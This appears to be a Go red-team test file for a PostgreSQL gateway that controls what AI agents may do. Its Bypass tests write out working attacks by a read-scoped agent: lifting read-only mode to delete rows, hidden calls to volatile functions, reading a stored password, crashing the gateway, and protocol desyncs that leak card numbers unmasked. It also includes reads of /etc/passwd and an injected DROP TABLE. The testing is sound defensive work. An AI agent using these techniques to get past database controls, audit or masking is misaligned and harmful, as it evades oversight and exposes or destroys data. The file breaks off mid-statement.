package postgres_test

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"net"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgproto3"
)

// Red-team review of "the gateway's model of the session is the server's"
// (issue 10): a hostile agent against a superuser upstream account.
//
// Every test whose name ends in Bypass FAILS on the code it was written
// against: it demonstrates a bypass, and its assertions state what the
// gateway should have done. Tests without the suffix pass and cover ground
// attacks_test.go did not. Each test checks what the upstream did, not only
// what the client was told.

// restoreT puts back the ten rows of t that an attack deleted, so that the
// next case of a test starts from attackSetup's state.
func (h *harness) restoreT() {
	h.exec(`INSERT INTO t SELECT i, 'v' || i FROM generate_series(1, 10) i ON CONFLICT DO NOTHING`)
}

// TestRedTeamWallLiftedInsideOneQueryBypass (critical: read scope deletes
// every row). The second wall ends the session when the server reports
// default_transaction_read_only=off, but PostgreSQL reports a changed
// setting only just before ReadyForQuery, after every statement of the
// query string (or of the extended batch) has run. rw_on() is stable, so
// the catalog takes it for a read; COMMIT ends the implicit transaction and
// the next statement starts a new one under the new default, read-write;
// sneaky() (stable) or the view v_evil then delete all of t. The session
// ends afterwards, with the rows already gone.
func TestRedTeamWallLiftedInsideOneQueryBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	attackSetup(h)
	for _, q := range []string{
		"SELECT rw_on(); COMMIT; SELECT sneaky()",
		"SELECT rw_on(); COMMIT; SELECT * FROM v_evil",
	} {
		r := h.raw(t, h.token("reader", "read"))
		r.send(&pgproto3.Query{String: q})
		res := r.untilReadyOrClosed(t)
		if got := h.upstreamState(t); got != untouched {
			t.Errorf("read scope, one Query %q:\n%s=> upstream changed: %s, want %s", q, res, got, untouched)
			h.restoreT()
		}
	}
	t.Run("one extended batch", func(t *testing.T) {
		r := h.raw(t, h.token("reader", "read"))
		r.send(
			&pgproto3.Parse{Query: "SELECT rw_on()"}, &pgproto3.Bind{}, &pgproto3.Execute{},
			&pgproto3.Parse{Query: "COMMIT"}, &pgproto3.Bind{}, &pgproto3.Execute{},
			&pgproto3.Parse{Query: "SELECT sneaky()"}, &pgproto3.Bind{}, &pgproto3.Execute{},
			&pgproto3.Sync{})
		res := r.untilReadyOrClosed(t)
		if got := h.upstreamState(t); got != untouched {
			t.Errorf("read scope, one extended batch:\n%s=> upstream changed: %s, want %s", res, got, untouched)
			h.restoreT()
		}
	})
}

// hiddenCallSetup creates functions a read-scoped agent reaches without a
// FuncCall node in the parse tree. Each is VOLATILE (so calling it needs
// sql:call, which read scope lacks) and takes its own session advisory lock,
// a change of server state the read-only transaction does not stop.
func hiddenCallSetup(h *harness) {
	lock := func(name, args, ret string, key int, body string) string {
		return fmt.Sprintf(`CREATE FUNCTION %s(%s) RETURNS %s VOLATILE LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_advisory_lock(%d); %s END $$`, name, args, ret, key, body)
	}
	h.exec(
		`CREATE TYPE ticket AS (id int)`,
		// A cast with a function: 1::ticket.
		lock("mk_ticket", "i int", "ticket", 1001, "RETURN ROW(i)::ticket;"),
		`CREATE CAST (int AS ticket) WITH FUNCTION mk_ticket(int)`,
		// Equality and a default btree operator class for ticket: used by
		// CASE, IN (subquery), JOIN USING, ORDER BY, GROUP BY, DISTINCT,
		// GREATEST and array_position without any operator in the text.
		lock("ticket_eq", "a ticket, b ticket", "bool", 1002, "RETURN a.id = b.id;"),
		lock("ticket_cmp", "a ticket, b ticket", "int", 1003, "RETURN CASE WHEN a.id < b.id THEN -1 WHEN a.id > b.id THEN 1 ELSE 0 END;"),
		`CREATE FUNCTION ticket_lt(a ticket, b ticket) RETURNS bool IMMUTABLE LANGUAGE sql AS $$ SELECT a.id < b.id $$`,
		`CREATE FUNCTION ticket_le(a ticket, b ticket) RETURNS bool IMMUTABLE LANGUAGE sql AS $$ SELECT a.id <= b.id $$`,
		`CREATE FUNCTION ticket_ge(a ticket, b ticket) RETURNS bool IMMUTABLE LANGUAGE sql AS $$ SELECT a.id >= b.id $$`,
		`CREATE FUNCTION ticket_gt(a ticket, b ticket) RETURNS bool IMMUTABLE LANGUAGE sql AS $$ SELECT a.id > b.id $$`,
		`CREATE OPERATOR public.= (leftarg = ticket, rightarg = ticket, function = ticket_eq)`,
		`CREATE OPERATOR public.< (leftarg = ticket, rightarg = ticket, function = ticket_lt)`,
		`CREATE OPERATOR public.<= (leftarg = ticket, rightarg = ticket, function = ticket_le)`,
		`CREATE OPERATOR public.>= (leftarg = ticket, rightarg = ticket, function = ticket_ge)`,
		`CREATE OPERATOR public.> (leftarg = ticket, rightarg = ticket, function = ticket_gt)`,
		`CREATE OPERATOR CLASS ticket_ops DEFAULT FOR TYPE ticket USING btree AS
		   OPERATOR 1 public.<, OPERATOR 2 public.<=, OPERATOR 3 public.=, OPERATOR 4 public.>=, OPERATOR 5 public.>,
		   FUNCTION 1 ticket_cmp(ticket, ticket)`,
		// Attribute notation: x.bump is bump(x).
		lock("bump", "r t", "int", 1004, "RETURN 1;"),
		// An aggregate is IMMUTABLE in pg_proc whatever its transition
		// function is.
		lock("evil_sfunc", "s int, v int", "int", 1005, "RETURN coalesce(s, 0) + v;"),
		`CREATE AGGREGATE evil_sum(int) (sfunc = evil_sfunc, stype = int)`,
		// A domain's CHECK runs on every cast to it.
		lock("lock_ok", "v int", "bool", 1006, "RETURN true;"),
		`CREATE DOMAIN checked AS int CHECK (lock_ok(VALUE))`,
		// An operator whose function lives in another schema.
		`CREATE SCHEMA ops`,
		lock("public.op_fn", "a int, b int", "bool", 1007, "RETURN true;"),
		`CREATE OPERATOR ops.### (leftarg = int, rightarg = int, function = public.op_fn)`,
		// A name that is SQL/JSON syntax to the gateway's parser
		// (PostgreSQL 17) and a plain function call to an older server.
		lock("public.json_scalar", "x text", "text", 1008, "RETURN x;"),
	)
}

// advisoryHeld reports whether some session holds advisory lock key.
func (h *harness) advisoryHeld(t *testing.T, key int) bool {
	t.Helper()
	db, err := sql.Open("pgx", h.upstream)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var n int
	if err := db.QueryRow(`SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND objid = $1 AND granted`, key).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n > 0
}

// TestRedTeamHiddenFunctionCallsBypass (high): read scope calls VOLATILE
// user functions that the gateway never classifies, because they are
// reached without a FuncCall (or written operator) in the parse tree:
// casts, implicit operators and operator-class support functions,
// attribute notation, aggregates (pg_proc says IMMUTABLE), domain checks,
// an operator whose function is in another schema, and a name that the
// gateway's PostgreSQL 17 parser reads as SQL/JSON syntax while the server
// calls a function. Each would be sql:call (42501 for read scope) if
// written as a call; each runs, and takes a session advisory lock the
// read-only transaction does not prevent (the same path reaches
// pg_notify, set_config, pg_terminate_backend or dblink from a function).
func TestRedTeamHiddenFunctionCallsBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	attackSetup(h)
	hiddenCallSetup(h)
	ctx := context.Background()
	// Control: written as calls, each is refused.
	c := connect(t, h.dsn(h.token("reader", "read")))
	for _, q := range []string{"SELECT mk_ticket(1)", "SELECT bump(x) FROM t x", "SELECT evil_sfunc(1, 2)", "SELECT lock_ok(1)", "SELECT public.op_fn(1, 2)"} {
		if _, err := c.Exec(ctx, q); errCode(err) != "42501" {
			t.Fatalf("control %s: %v, want 42501", q, err)
		}
	}
	var serverVersion int
	c.QueryRow(ctx, "SELECT current_setting('server_version_num')::int").Scan(&serverVersion)
	c.Close(ctx)

	cases := []struct {
		name string
		sql  string
		key  int
	}{
		{"cast with a function", "SELECT 1::ticket", 1001},
		{"CAST()", "SELECT CAST(2 AS ticket)", 1001},
		{"CASE x WHEN y (implicit =)", "SELECT CASE ROW(1)::ticket WHEN ROW(1)::ticket THEN 'y' END", 1002},
		{"IN (subquery) (implicit =)", "SELECT k IN (SELECT k FROM (SELECT ROW(1)::ticket AS k) y) FROM (SELECT ROW(1)::ticket AS k) x", 1002},
		{"JOIN USING (implicit =)", "SELECT * FROM (SELECT ROW(1)::ticket AS k) a JOIN (SELECT ROW(1)::ticket AS k) b USING (k)", 1002},
		{"array_position (type's equality)", "SELECT array_position(ARRAY[ROW(1)::ticket], ROW(1)::ticket)", 1002},
		{"ORDER BY (opclass comparison)", "SELECT * FROM (VALUES (ROW(2)::ticket), (ROW(1)::ticket)) v(k) ORDER BY k", 1003},
		{"GREATEST (opclass comparison)", "SELECT GREATEST(ROW(2)::ticket, ROW(1)::ticket)", 1003},
		{"DISTINCT (opclass)", "SELECT DISTINCT k FROM (VALUES (ROW(2)::ticket), (ROW(1)::ticket)) v(k)", 1003},
		{"attribute notation", "SELECT x.bump FROM t x", 1004},
		{"aggregate with a volatile transition function", "SELECT evil_sum(id) FROM t", 1005},
		{"domain CHECK", "SELECT 1::checked", 1006},
		{"operator whose function is in another schema", "SELECT 1 OPERATOR(ops.###) 2", 1007},
		{"parser version skew (SQL/JSON keyword)", "SELECT json_scalar('x')", 1008},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.key == 1008 && serverVersion >= 170000 {
				t.Skip("the server parses json_scalar as the gateway does")
			}
			for _, mode := range []pgx.QueryExecMode{pgx.QueryExecModeSimpleProtocol, pgx.QueryExecModeExec} {
				c := connect(t, h.dsn(h.token("reader", "read")))
				_, err := c.Exec(ctx, tc.sql, mode)
				held := h.advisoryHeld(t, tc.key)
				c.Close(ctx)
				if pe := pgErr(err); pe == nil || pe.Code != "42501" || !strings.Contains(pe.Message, "sql:call") {
					t.Errorf("read scope %q (mode %v): %v (advisory lock %d taken: %v); want 42501 naming sql:call: the statement calls a volatile function", tc.sql, mode, err, tc.key, held)
				}
				for deadline := time.Now().Add(5 * time.Second); h.advisoryHeld(t, tc.key) && time.Now().Before(deadline); {
					time.Sleep(20 * time.Millisecond) // the ended session releases it
				}
			}
		})
	}
	if got := h.upstreamState(t); got != untouched {
		t.Fatalf("upstream changed: %s, want %s", got, untouched)
	}
}

// TestRedTeamTwoPhaseCommitFromReadScopeBypass (high where
// max_prepared_transactions > 0): COMMIT PREPARED, ROLLBACK PREPARED and
// PREPARE TRANSACTION are ClassTransaction, which read scope has, and
// PostgreSQL allows all three in a read-only transaction
// (ClassifyUtilityCommandAsReadOnly: COMMAND_OK_IN_READ_ONLY_TXN). As a
// superuser the read-scoped agent can commit or roll back any other
// session's prepared transaction (losing or publishing an application's
// in-doubt writes), and PREPARE TRANSACTION leaves its own transaction,
// with its locks and its snapshot holding back the xmin horizon, alive
// after the session. The test server has max_prepared_transactions = 0,
// so the proof is that the gateway forwards them: the answers are the
// server's ("does not exist", "disabled"), not the gateway's 42501.
func TestRedTeamTwoPhaseCommitFromReadScopeBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	attackSetup(h)
	c := connect(t, h.dsn(h.token("reader", "read")))
	ctx := context.Background()
	for _, q := range []string{
		"COMMIT PREPARED 'app_tx_1'",
		"ROLLBACK PREPARED 'app_tx_1'",
		"BEGIN; SELECT * FROM t; PREPARE TRANSACTION 'held_forever'",
	} {
		_, err := c.Exec(ctx, q, pgx.QueryExecModeSimpleProtocol)
		if pe := pgErr(err); pe == nil || pe.Code != "42501" {
			t.Errorf("read scope %q: %v; want 42501 from the gateway (the server was asked to do it)", q, err)
		}
		c.Exec(ctx, "ROLLBACK")
	}
}

// TestRedTeamSecretCatalogThroughInformationSchemaBypass (medium):
// guard-secret-catalogs forbids pg_user_mapping and pg_user_mappings, but
// information_schema.user_mapping_options is a view over the same rows
// and shows the option values (a foreign server's password) to a
// superuser; it forbids pg_db_role_setting, but pg_roles.rolconfig shows
// the role's settings from it.
func TestRedTeamSecretCatalogThroughInformationSchemaBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	secret := "fdw-password-" + randHex(6)
	h.exec(
		`CREATE FOREIGN DATA WRAPPER rt_fdw`,
		`CREATE SERVER rt_remote FOREIGN DATA WRAPPER rt_fdw OPTIONS (host 'billing.internal')`,
		`CREATE USER MAPPING FOR PUBLIC SERVER rt_remote OPTIONS (user 'billing', password '`+secret+`')`,
	)
	t.Cleanup(func() {
		h.exec(`DROP USER MAPPING FOR PUBLIC SERVER rt_remote`, `DROP SERVER rt_remote`, `DROP FOREIGN DATA WRAPPER rt_fdw`)
	})
	// A role setting (pg_db_role_setting, also forbidden) holding a key.
	h.exec(`ALTER ROLE CURRENT_USER SET gh_rt.api_key = '` + secret + `'`)
	c := connect(t, h.dsn(h.token("reader", "read")))
	ctx := context.Background()
	for _, q := range []string{
		"SELECT option_value FROM information_schema.user_mapping_options WHERE option_name = 'password'",
		"SELECT option_value FROM (SELECT (pg_options_to_table(umoptions)).* FROM information_schema._pg_user_mappings) o WHERE option_name = 'password'",
		"SELECT array_to_string(rolconfig, ',') FROM pg_roles WHERE rolconfig IS NOT NULL AND rolname = current_user",
	} {
		var got string
		err := c.QueryRow(ctx, q).Scan(&got)
		if strings.Contains(got, secret) || err == nil {
			t.Errorf("read scope %q: read %q (err %v); want guard-secret-catalogs", q, got, err)
		} else if pe := pgErr(err); pe == nil || pe.Code != "42501" {
			t.Errorf("read scope %q: %v; want 42501", q, err)
		}
	}
}

// TestRedTeamOtherDatabasesActivityBypass (medium): a connection serves
// only its configured databases, but pg_stat_activity is cluster-wide and
// a superuser sees every backend's current query text, with its literals:
// the read-scoped agent reads what other applications run in databases
// the connection does not serve.
func TestRedTeamOtherDatabasesActivityBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	u, _ := url.Parse(h.upstream)
	u.Path = "/postgres"
	other, err := sql.Open("pgx", u.String())
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	secret := "salary-export-" + randHex(6)
	done := make(chan error, 1)
	go func() {
		_, err := other.Exec("SELECT pg_sleep(4), '" + secret + "'")
		done <- err
	}()
	defer func() { <-done }()
	c := connect(t, h.dsn(h.token("reader", "read")))
	ctx := context.Background()
	var seen string
	for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		err := c.QueryRow(ctx, "SELECT coalesce(string_agg(datname || ': ' || query, ' | '), '') FROM pg_stat_activity WHERE datname <> current_database()").Scan(&seen)
		if err != nil {
			if errCode(err) == "42501" {
				return // refused: the fix
			}
			t.Fatal(err)
		}
		if strings.Contains(seen, secret) {
			break
		}
	}
	if strings.Contains(seen, secret) {
		t.Errorf("read scope on database %s read another database's query text: %q", h.db, seen)
	}
}

// TestRedTeamAuditKeepsLiteralsBypass (medium): audit events and
// recordings are to carry no literal values (a card number in a WHERE).
// When the lexer is unsure of a text (a comment, an escape string, a dollar
// quote) the recorded text is pg_query's normalisation, which leaves the
// literals of PREPARE, CREATE TABLE AS, CREATE VIEW, DEFAULT, COMMENT,
// COPY's file name and others word for word, and the audit log is
// append-only: the number stays there.
func TestRedTeamAuditKeepsLiteralsBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	attackSetup(h)
	const card = "4111111111111111"
	c := connect(t, h.dsn(h.token("reader", "read")))
	ctx := context.Background()
	if _, err := c.Exec(ctx, "PREPARE lookup AS SELECT * FROM t WHERE v = '"+card+"' -- find the customer", pgx.QueryExecModeSimpleProtocol); err != nil {
		t.Fatal(err)
	}
	c.Close(ctx)
	var leaked string
	for deadline := time.Now().Add(5 * time.Second); leaked == "" && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		evs, err := h.gw.Admin.TailAudit(ctx, 50)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range evs {
			if strings.Contains(string(e), card) {
				leaked = string(e)
			}
		}
	}
	if leaked != "" {
		t.Errorf("an audit event keeps the literal card number: %s", leaked)
	}
	ss, _ := h.gw.Admin.ListSessions(ctx, 10)
	for _, s := range ss {
		st, _ := h.gw.Admin.SessionStatements(ctx, s.ID)
		for _, r := range st {
			if strings.Contains(r.Statement, card) {
				t.Errorf("a recording keeps the literal card number: %q", r.Statement)
			}
		}
	}
}

// TestRedTeamApprovalHidesWhatRunsBypass (high): the reviewer is shown the
// normalised text, in which every literal is a placeholder. For CREATE
// FUNCTION and DO the literal is the code: the reviewer is asked to
// approve "CREATE FUNCTION report() ... AS $1" and cannot see that $1
// deletes the table. The approval is bound to the exact text, but nobody
// can read it before approving.
func TestRedTeamApprovalHidesWhatRunsBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true, extraConfig: "approvals: {timeout: 5s}\n"})
	attackSetup(h)
	ctx := context.Background()
	for _, q := range []string{
		"CREATE FUNCTION report_totals() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; RETURN 0; END $$",
		"DO $$ BEGIN DELETE FROM t; END $$",
	} {
		c := connect(t, h.dsn(h.token("builder", "ddl")))
		done := make(chan error, 1)
		go func() { _, err := c.Exec(ctx, q, pgx.QueryExecModeSimpleProtocol); done <- err }()
		a := h.pending(t)
		// Reviewers see the operation (the CLI, the API and webhooks
		// show it); Statement is the normalised text kept for audit.
		if a.Operation == nil || !strings.Contains(a.Operation.Describe(), "DELETE FROM t") {
			t.Errorf("%s: the reviewer is shown %+v, which does not say what runs", q, a.Operation)
		}
		if code := h.gatehouseCLI("approvals", "deny", a.ID, "--reason", "red team"); code != 0 {
			t.Fatalf("deny exit %d", code)
		}
		<-done
	}
	if got := h.upstreamState(t); got != untouched {
		t.Fatalf("upstream changed: %s, want %s", got, untouched)
	}
}

// TestRedTeamDeepExpressionCrashesGatewayBypass (critical availability):
// a 60 KB chain of binary operators ("SELECT 1+1+…", under every analysis
// limit) overflows the C stack inside pg_query and the gateway process
// dies with SIGSEGV, ending every session of every agent and human. Any
// valid token, even read scope, is enough. The gateway runs in a child
// process here so the crash fails this test, not the whole run.
func TestRedTeamDeepExpressionCrashesGatewayBypass(t *testing.T) {
	if os.Getenv("GH_REDTEAM_CHILD") == "deep" {
		deepExpressionChild(t)
		return
	}
	cmd := exec.Command(os.Args[0], "-test.run=^TestRedTeamDeepExpressionCrashesGatewayBypass$", "-test.count=1", "-test.v")
	cmd.Env = append(os.Environ(), "GH_REDTEAM_CHILD=deep")
	out, err := cmd.CombinedOutput()
	if err == nil && strings.Contains(string(out), "--- SKIP") {
		t.Skip("the child skipped: no test PostgreSQL")
	}
	if err != nil {
		var ee *exec.ExitError
		sig := ""
		if errors.As(err, &ee) {
			sig = ee.String()
		}
		tail := string(out)
		if i := strings.Index(tail, "SIGSEGV"); i >= 0 {
			tail = tail[i:min(len(tail), i+300)]
		} else if len(tail) > 1500 {
			tail = tail[len(tail)-1500:]
		}
		t.Fatalf("the gateway process did not survive one deep statement from a read-scoped agent (%s):\n%s", sig, tail)
	}
}

func deepExpressionChild(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	ctx := context.Background()
	c := connect(t, h.dsn(h.token("reader", "read")))
	_, err := c.Exec(ctx, "SELECT 1"+strings.Repeat("+1", 30000), pgx.QueryExecModeSimpleProtocol)
	t.Logf("deep statement: %v", err)
	other := connect(t, h.dsn(h.token("bystander", "read")))
	var n int
	if err := other.QueryRow(ctx, "SELECT 1").Scan(&n); err != nil {
		t.Fatalf("another session after the deep statement: %v", err)
	}
}

// TestRedTeamLongStatementNamesBypass (high: hides what runs from the
// audit log and the recording, and defeats masking). PostgreSQL keys
// prepared statements (and portals) by their first NAMEDATALEN-1 = 63
// bytes, protocol names included; the gateway keys its model by the whole
// name. A Parse under a 64-byte name is the server's 63-byte statement P;
// a SQL DEALLOCATE of P (which the gateway models as another name) drops
// it; a second Parse under another 64-byte name with the same prefix then
// becomes P. A Bind of the first name is decided, audited and recorded as
// the first text, masked with the first text's description (an int4
// column, in binary), and runs the second: the card number comes back raw.
func TestRedTeamLongStatementNamesBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true, maskRules: `
detectors:
  default: redact
`})
	seed(h)
	prefix := strings.Repeat("s", 63)
	first, second := prefix+"1", prefix+"2"
	r := h.raw(t, h.token("reader", "read"))
	r.send(&pgproto3.Parse{Name: first, Query: "SELECT 1::int4 AS n"}, &pgproto3.Describe{ObjectType: 'S', Name: first}, &pgproto3.Sync{})
	if res := r.untilReady(t, 1); strings.Contains(res, "ERROR") {
		t.Fatalf("parse: %s", res)
	}
	r.send(&pgproto3.Query{String: `DEALLOCATE "` + prefix + `"`})
	if res := r.untilReady(t, 1); strings.Contains(res, "ERROR") {
		t.Fatalf("DEALLOCATE of the 63-byte name: %s", res)
	}
	r.send(&pgproto3.Parse{Name: second, Query: "SELECT card FROM users WHERE id = 1"}, &pgproto3.Sync{})
	if res := r.untilReady(t, 1); strings.Contains(res, "ERROR") {
		t.Fatalf("second parse: %s", res)
	}
	// Control, in a session of its own: the same text, bound in binary
	// under a name of its own, is masked.
	ctl := h.raw(t, h.token("control", "read"))
	ctl.send(&pgproto3.Parse{Name: "c", Query: "SELECT card FROM users WHERE id = 1"}, &pgproto3.Bind{PreparedStatement: "c", ResultFormatCodes: []int16{1}}, &pgproto3.Execute{}, &pgproto3.Sync{})
	if got := ctl.rows(t); len(got) != 1 || strings.Contains(got[0], "4111 1111 1111 1111") {
		t.Fatalf("control: %q, want one masked value", got)
	}
	r.send(&pgproto3.Bind{PreparedStatement: first, ResultFormatCodes: []int16{1}}, &pgproto3.Execute{}, &pgproto3.Sync{})
	got := r.rows(t)
	if strings.Contains(strings.Join(got, " "), "4111 1111 1111 1111") {
		t.Errorf("Bind of %q (decided, audited and masked as SELECT 1::int4) returned %q: the server ran the second statement, and its card number came back unmasked", first, got)
	}
	// The audit log must say that users was read: the statement that ran.
	ctx := context.Background()
	var audited bool
	for deadline := time.Now().Add(3 * time.Second); !audited && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		evs, err := h.gw.Admin.TailAudit(ctx, 50)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range evs {
			reader := strings.Contains(string(e), `Agent::\"reader\"`)
			audited = audited || reader && strings.Contains(string(e), "public.users")
		}
	}
	if !audited {
		t.Errorf("no audit event of the reader names public.users, which the server read for it: the execution was audited as SELECT 1::int4")
	}
}

// rows reads until ReadyForQuery and returns the DataRow values and any
// error, one string each.
func (r *rawClient) rows(t *testing.T) []string {
	t.Helper()
	r.conn.SetDeadline(time.Now().Add(20 * time.Second))
	var got []string
	for {
		m, err := r.fe.Receive()
		if err != nil {
			t.Fatalf("receive: %v (so far %q)", err, got)
		}
		switch m := m.(type) {
		case *pgproto3.DataRow:
			for _, v := range m.Values {
				got = append(got, string(v))
			}
		case *pgproto3.ErrorResponse:
			got = append(got, "ERROR "+m.Code+" "+m.Message)
		case *pgproto3.ReadyForQuery:
			return got
		}
	}
}

// TestRedTeamIgnoredTillSyncDesyncBypass (high: masking off for the rest
// of a batch, and the response queue out of step). After an error in the
// extended protocol PostgreSQL discards every message until Sync, a simple
// Query included. The gateway drops only the expectations already queued
// when the error arrives: a Query the client sends after reading the error
// (before its Sync) is forwarded, ignored by the server, and left in the
// gateway's queue; ReadyForQuery for the Sync then pops that Query and
// leaves the Sync's expectation behind. From then on every response is
// matched to the message before it: the BindComplete of the next batch
// pops the stale Sync, its DataRows arrive with a Bind at the head instead
// of an Execute, so no row plan is made, and the rows go out unmasked.
func TestRedTeamIgnoredTillSyncDesyncBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{maskRules: `
detectors:
  default: redact
`})
	seed(h)
	r := h.raw(t, h.token("reader", "read"))
	r.send(&pgproto3.Parse{Name: "s", Query: "SELECT card FROM users WHERE id = 1"}, &pgproto3.Describe{ObjectType: 'S', Name: "s"}, &pgproto3.Sync{})
	r.untilReady(t, 1)
	// Control: in step, the card number is masked.
	r.send(&pgproto3.Bind{PreparedStatement: "s"}, &pgproto3.Execute{}, &pgproto3.Sync{})
	if got := r.rows(t); len(got) != 1 || strings.Contains(got[0], "4111 1111 1111 1111") {
		t.Fatalf("control: %q, want one masked value", got)
	}
	// An error (a denied Parse), read before the batch's Sync; then a
	// Query the server ignores; then the Sync.
	r.send(&pgproto3.Parse{Name: "x", Query: "SELECT pg_read_file('/etc/passwd')"}, &pgproto3.Flush{})
	if msg, err := r.readError(); err != nil || !strings.Contains(msg, "not allowed") {
		t.Fatalf("denied parse: %q %v", msg, err)
	}
	r.send(&pgproto3.Query{String: "SELECT 1"}, &pgproto3.Sync{})
	r.untilReady(t, 1)
	r.send(&pgproto3.Bind{PreparedStatement: "s"}, &pgproto3.Execute{}, &pgproto3.Sync{})
	got := r.rows(t)
	if strings.Contains(strings.Join(got, " "), "4111 1111 1111 1111") {
		t.Errorf("after the desync the same statement returned %q: the card number is no longer masked", got)
	}
}

// TestRedTeamStaleDescriptionMaskingBypass (high: masking). The backend
// masks a portal's rows with the description the client's Describe of the
// statement returned, kept by statement name; a protocol Parse or Close
// resets it, but SQL DEALLOCATE and PREPARE of the same name do not. A
// read-scoped client describes "s" as an int4 column, redefines s in SQL
// as a text query, and binds it in binary: the gateway believes the value
// is a binary int4, which it does not scan, and the card number passes.
func TestRedTeamStaleDescriptionMaskingBypass(t *testing.T) {
	h := newHarness(t, harnessOpts{maskRules: `
detectors:
  default: redact
`})
	seed(h)
	r := h.raw(t, h.token("reader", "read"))
	r.send(&pgproto3.Query{String: "PREPARE c AS SELECT card FROM users WHERE id = 1"})
	r.untilReady(t, 1)
	// Control: binary text values are scanned when the description is
	// the statement's own.
	r.send(&pgproto3.Bind{PreparedStatement: "c", ResultFormatCodes: []int16{1}}, &pgproto3.Execute{}, &pgproto3.Sync{})
	if got := r.rows(t); len(got) != 1 || strings.Contains(got[0], "4111 1111 1111 1111") {
		t.Fatalf("control: %q, want one masked value", got)
	}
	r.send(&pgproto3.Parse{Name: "s", Query: "SELECT 1::int4 AS n"}, &pgproto3.Describe{ObjectType: 'S', Name: "s"}, &pgproto3.Sync{})
	r.untilReady(t, 1)
	r.send(&pgproto3.Query{String: "DEALLOCATE s"})
	r.untilReady(t, 1)
	r.send(&pgproto3.Query{String: "PREPARE s AS SELECT card FROM users WHERE id = 1"})
	r.untilReady(t, 1)
	r.send(&pgproto3.Bind{PreparedStatement: "s", ResultFormatCodes: []int16{1}}, &pgproto3.Execute{}, &pgproto3.Sync{})
	if got := r.rows(t); strings.Contains(strings.Join(got, " "), "4111 1111 1111 1111") {
		t.Errorf("s redefined by SQL and bound in binary returned %q: masked with the stale int4 description", got)
	}
}

// startupWith opens a hand-driven session sending the given startup
// parameters besides user and database.
func (h *harness) startupWith(t *testing.T, token string, params map[string]string) *rawClient {
	t.Helper()
	conn, err := (&net.Dialer{Timeout: 5 * time.Second}).Dial("tcp", h.pgAddr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	r := pgconnFrontend(conn)
	p := map[string]string{"user": "pg", "database": h.db}
	for k, v := range params {
		p[k] = v
	}
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	r.fe.Send(&pgproto3.StartupMessage{ProtocolVersion: pgproto3.ProtocolVersion30, Parameters: p})
	r.fe.Flush()
	for {
		m, err := r.fe.Receive()
		if err != nil {
			t.Fatal(err)
		}
		switch m := m.(type) {
		case *pgproto3.AuthenticationCleartextPassword:
			r.send(&pgproto3.PasswordMessage{Password: token})
		case *pgproto3.ErrorResponse:
			t.Fatalf("startup: %s", m.Message)
		case *pgproto3.ReadyForQuery:
			return r
		}
	}
}

// TestRedTeamStartupParametersDropped (passes): startup parameters that
// would lift the wall, move names or change how text is read never reach
// the upstream.
func TestRedTeamStartupParametersDropped(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	attackSetup(h)
	r := h.startupWith(t, h.token("reader", "read"), map[string]string{
		"options":                       "-c default_transaction_read_only=off -c search_path=pg_temp,public -c standard_conforming_strings=off -c session_replication_role=replica",
		"default_transaction_read_only": "off",
		"standard_conforming_strings":   "off",
		"client_encoding":               "SJIS",
		"search_path":                   "pg_temp",
		"role":                          "postgres",
		"session_authorization":         "postgres",
		"application_name":              "x' ; DROP TABLE t; --",
	})
	r.send(&pgproto3.Query{String: "SELECT current_setting('default_transaction_read_only') || current_setting('standard_conforming_strings') || current_setting('client_encoding') || current_setting('search_path') || current_setting('session_replication_role')"})
	got := r.rows(t)
	// search_path is the gateway's pinned one, not the client's.
	want := `onon` + "UTF8" + `public` + "origin"
	if len(got) != 1 || got[0] != want {
		t.Fatalf("settings = %q, want %q", got, want)
	}
	r.send(&pgproto3.Query{String: "DELETE FROM t WHERE id = 1"})
	if got := r.rows(t); len(got) != 1 || !strings.Contains(got[0], "42501") {
		t.Fatalf("write from a read session: %q", got)
	}
	if s := h.upstreamState(t); s != untouched {
		t.Fatalf("upstream changed: %s", s)
	}
}

// TestRedTeamProtocolLeftovers (passes): CopyData after a denied COPY FROM
// STDIN is ignored by the server, and a fast-path FunctionCall (lo_import
// by OID) is refused; the session stays usable.
func TestRedTeamProtocolLeftovers(t *testing.T) {
	h := newHarness(t, harnessOpts{superuser: true})
	attackSetup(h)
	r := h.raw(t, h.token("reader", "read"))
	r.send(&pgproto3.Query{String: "COPY t FROM STDIN"})
	if got := r.rows(t); len(got) != 1 || !strings.Contains(got[0], "42501") {
		t.Fatalf("COPY FROM STDIN by read scope: %q", got)
	}
	r.send(&pgproto3.CopyData{Data: []byte("11\televen\n")}, &pgproto3.CopyDone{}, &pgproto3.Query{String: "SELECT count(*) FROM t"})
	if got := r.rows(t); len(got) != 1 || got[0] != "10" {
		t.Fatalf("after CopyData to a denied COPY: %q", got)
	}
	r.send(&pgproto3.FunctionCall{Function: 764, ArgFormatCodes: []uint16{0}, Arguments: [][]byte{[]byte("/etc/passwd")}, ResultFormatCode: 0})
